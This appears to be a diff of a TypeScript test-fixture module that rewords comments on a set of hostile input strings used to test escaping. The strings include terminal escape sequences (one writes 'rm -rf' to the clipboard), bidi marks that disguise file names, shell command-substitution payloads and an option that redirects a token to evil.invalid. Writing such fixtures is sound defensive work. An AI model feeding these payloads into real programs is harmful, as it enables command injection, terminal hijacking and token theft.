@@ -1,19 +1,19 @@
-/** What somebody may write wherever text from outside is taken, and what each text tries. */
+/** A hostile text and what it tries. */
 export interface HostileText {
   readonly tries: string;
   readonly text: string;
 }
 
-/** Begins a line of output only where a text from outside brought its own line's end. */
+/** Starts a line of output only if a hostile text brought its own line feed. */
 export const forgedLine = 'FAKE   row';
 
-/** The command that no shell may run. */
+/** The command that a hostile text wants to run. */
 export const unwanted = 'pwn';
 
 const named = (texts: Readonly<Record<string, string>>): readonly HostileText[] =>
   Object.entries(texts).map(([tries, text]) => ({ tries, text }));
 
-/** Control sequences of terminals, and the characters that they are made of. */
+/** Control sequences and control characters of terminals. */
 export const controls = named({
   'colours the rest of the line': 'z\u001b[31mred',
   'writes the clipboard': 'z\u001b]52;c;cm0gLXJm\u0007',
@@ -26,7 +26,7 @@ export const controls = named({
   'moves a column with a tab': 'z\tz',
 });
 
-/** What ends a line, or writes over it. */
+/** Texts that end or overwrite a line. */
 export const lineEnds = named({
   'forges a row': `z\n${forgedLine}`,
   'forges a row, with carriage return': `z\r\n${forgedLine}`,
@@ -35,14 +35,14 @@ export const lineEnds = named({
   'ends the line by Unicode': `z\u2028${forgedLine}\u2029${forgedLine}`,
 });
 
-/** Marks that reorder what is read. */
+/** Texts with marks that reorder what a reader sees. */
 export const marks = named({
   'overrides the direction': 'z\u202egnp.exe',
   'isolates a direction': 'z\u2066\u202dadmin\u2069',
   'marks a direction': '\u200fz\u200e\u061c',
 });
 
-/** What a shell would run, expand or not end. Each begins with `z`. */
+/** Texts that a shell runs, expands, or waits to finish. Each begins with `z`. */
 export const shellWords = named({
   'substitutes a command': `z$(${unwanted})`,
   'substitutes a command by backticks': `z\`${unwanted}\``,
@@ -63,7 +63,7 @@ export const shellWords = named({
   'escapes a quote': "z\\'",
 });
 
-/** What a program takes for an option, or as nothing at all. */
+/** Texts that a program reads as options. */
 export const options = named({
   'sends the token elsewhere': '--server=https://evil.invalid',
   'means all of them': '-a',
@@ -72,7 +72,7 @@ export const options = named({
   'is an option with a command': `-z$(${unwanted})`,
 });
 
-/** What trips formats, encodings and widths. */
+/** Texts that disturb formats, encodings and widths. */
 export const oddities = named({
   'is empty': '',
   'is blank': ' ',
@@ -91,7 +91,7 @@ export const oddities = named({
   'is a property of every object': '__proto__',
 });
 
-/** All that is short. */
+/** All short texts. */
 export const shortTexts: readonly HostileText[] = [
   ...controls,
   ...lineEnds,
@@ -101,13 +101,13 @@ export const shortTexts: readonly HostileText[] = [
   ...oddities,
 ];
 
-/** Every character that a terminal obeys, in one text: a place that escapes nothing is found by it whatever it forgot. */
+/** Every control character in one text. It finds any place that forgets to escape one of them. */
 export const everyControl: HostileText = {
   tries: 'does all that a terminal obeys',
   text: [...controls, ...lineEnds, ...marks].map(({ text }) => text).join(''),
 };
 
-/** A text of a length; its words break lines, so that wrapping has something to do. */
+/** Makes a text of a given length from short words, so that it can be wrapped. */
 export function longText(length: number): string {
   return 'lengthy '.repeat(Math.ceil(length / 8)).slice(0, length);
 }
@@ -115,5 +115,5 @@ export function longText(length: number): string {
 /** Annotations of one object may have 256 kB together. */
 export const longName = 'n'.repeat(250_000);
 
-/** Far more than etcd takes for one object is never asked for; this is what an event may just have. */
+/** The longest message that an event can have: etcd takes 1.5 MB for one object. */
 export const longMessage = longText(1_000_000);
